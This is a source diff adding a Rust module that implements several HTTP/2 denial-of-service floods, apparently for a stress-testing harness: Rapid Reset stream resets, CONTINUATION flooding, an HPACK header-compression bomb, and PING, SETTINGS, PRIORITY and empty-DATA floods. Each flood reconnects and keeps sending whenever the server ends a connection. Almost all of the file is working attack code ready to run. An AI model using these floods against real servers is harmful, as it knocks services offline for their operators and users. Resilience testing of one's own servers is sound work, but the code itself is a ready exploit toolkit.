@@ -1,0 +1,139 @@
+//! Frames that cost nothing to send.
+
+use std::rc::Rc;
+
+use tokio::{
+    io::{AsyncRead, AsyncReadExt as _, AsyncWriteExt as _, split},
+    task::spawn_local,
+};
+
+use super::{
+    super::{
+        frames::{
+            CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, call_headers, frame,
+            literal, opening, settings as settings_frame, stream,
+        },
+        stranger::Stranger,
+    },
+    on_lanes,
+    tables::GET_CAPACITY,
+};
+
+/// Frames that are written at once.
+const FRAMES: u32 = 10;
+
+/// After so many parts a connection begins anew: streams have numbers of 31 bits.
+const PARTS: u32 = 50_000_000;
+
+/// Sends `begin` and then parts, each of so many acts, over a new connection when the server has ended one.
+pub(super) async fn flood(
+    stranger: Rc<Stranger>,
+    reads: bool,
+    begin: Vec<u8>,
+    acts: u32,
+    mut part: impl FnMut(u32) -> Vec<u8>,
+) {
+    loop {
+        let Some(wire) = stranger.connect().await else { continue };
+        let (reader, mut writer) = split(wire);
+        let reader = reads.then(|| spawn_local(throw_away(reader)).abort_handle());
+        let mut next = begin.clone();
+        for n in 0..PARTS {
+            // TLS keeps what is not flushed.
+            if writer.write_all(&next).await.is_err() || writer.flush().await.is_err() {
+                stranger.was_ended();
+                break;
+            }
+            stranger.acts(acts).await;
+            next = part(n);
+        }
+        reader.inspect(tokio::task::AbortHandle::abort);
+    }
+}
+
+async fn throw_away(mut from: impl AsyncRead + Unpin) {
+    let mut buffer = vec![0; 1 << 14];
+    while from.read(&mut buffer).await.is_ok_and(|read| read > 0) {}
+}
+
+/// As much as it takes, of each answer.
+const WINDOW: u32 = 1 << 16;
+
+/// The numbers of the streams of a part.
+fn streams(n: u32) -> impl Iterator<Item = u32> {
+    (0..FRAMES).map(move |m| stream(FRAMES * n + m))
+}
+
+pub(super) async fn rapid_reset(stranger: Rc<Stranger>) {
+    let headers = call_headers(GET_CAPACITY);
+    let reset = 8_u32.to_be_bytes();
+    let both =
+        move |stream| [frame(HEADERS, END_HEADERS, stream, &headers), frame(RST_STREAM, 0, stream, &reset)].concat();
+    on_lanes(stranger, |stranger, _| {
+        let both = both.clone();
+        flood(stranger, true, opening(WINDOW), FRAMES, move |n| streams(n).flat_map(&both).collect())
+    })
+    .await;
+}
+
+pub(super) async fn continuation(stranger: Rc<Stranger>) {
+    let mut more = Vec::new();
+    (0..10).for_each(|n| literal(&mut more, &format!("x-{n}"), &"v".repeat(100)));
+    let begin = [opening(WINDOW), frame(HEADERS, 0, 1, &call_headers(GET_CAPACITY))].concat();
+    let more = frame(CONTINUATION, 0, 1, &more);
+    on_lanes(stranger, |stranger, _| {
+        let more = more.clone();
+        flood(stranger, true, begin.clone(), 1, move |_| more.clone())
+    })
+    .await;
+}
+
+pub(super) async fn hpack_bomb(stranger: Rc<Stranger>) {
+    // A header of 4,000 bytes is remembered once, and then named by a byte, 3,000 times in each request.
+    let mut once = call_headers(GET_CAPACITY);
+    once.extend_from_slice(&[0x40, 1, b'x']);
+    // 4,000 in HPACK: 127 and 3,873 more.
+    once.extend_from_slice(&[0x7f, 0xa1, 0x1e]);
+    once.extend_from_slice(&[b'v'; 4000]);
+    let mut bomb = call_headers(GET_CAPACITY);
+    bomb.resize(bomb.len() + 3000, 0x80 | 62);
+    let begin = [opening(WINDOW), frame(HEADERS, END_HEADERS | END_STREAM, 1, &once)].concat();
+    on_lanes(stranger, |stranger, _| {
+        let bomb = bomb.clone();
+        flood(stranger, true, begin.clone(), 1, move |n| frame(HEADERS, END_HEADERS | END_STREAM, stream(n + 1), &bomb))
+    })
+    .await;
+}
+
+pub(super) async fn ping(stranger: Rc<Stranger>, reads: bool) {
+    let pings = frame(PING, 0, 0, &[7; 8]).repeat(FRAMES as usize);
+    on_lanes(stranger, |stranger, _| {
+        let pings = pings.clone();
+        flood(stranger, reads, opening(WINDOW), FRAMES, move |_| pings.clone())
+    })
+    .await;
+}
+
+pub(super) async fn settings(stranger: Rc<Stranger>) {
+    let part = |n: u32| (0..FRAMES).flat_map(|m| settings_frame(WINDOW + (n + m) % 1000, (n + m) % 4096)).collect();
+    on_lanes(stranger, |stranger, _| flood(stranger, true, opening(WINDOW), FRAMES, part)).await;
+}
+
+pub(super) async fn priority(stranger: Rc<Stranger>) {
+    // Each stream depends on the one before, exclusively.
+    let one = |stream: u32| frame(PRIORITY, 0, stream + 2, &[&(stream | 1 << 31).to_be_bytes()[..], &[7]].concat());
+    on_lanes(stranger, |stranger, _| {
+        flood(stranger, true, opening(WINDOW), FRAMES, move |n| streams(n).flat_map(one).collect())
+    })
+    .await;
+}
+
+pub(super) async fn empty_data(stranger: Rc<Stranger>) {
+    let begin = [opening(WINDOW), frame(HEADERS, END_HEADERS, 1, &call_headers(GET_CAPACITY))].concat();
+    let nothing = frame(DATA, 0, 1, &[]).repeat(FRAMES as usize);
+    on_lanes(stranger, |stranger, _| {
+        let nothing = nothing.clone();
+        flood(stranger, true, begin.clone(), FRAMES, move |_| nothing.clone())
+    })
+    .await;
+}
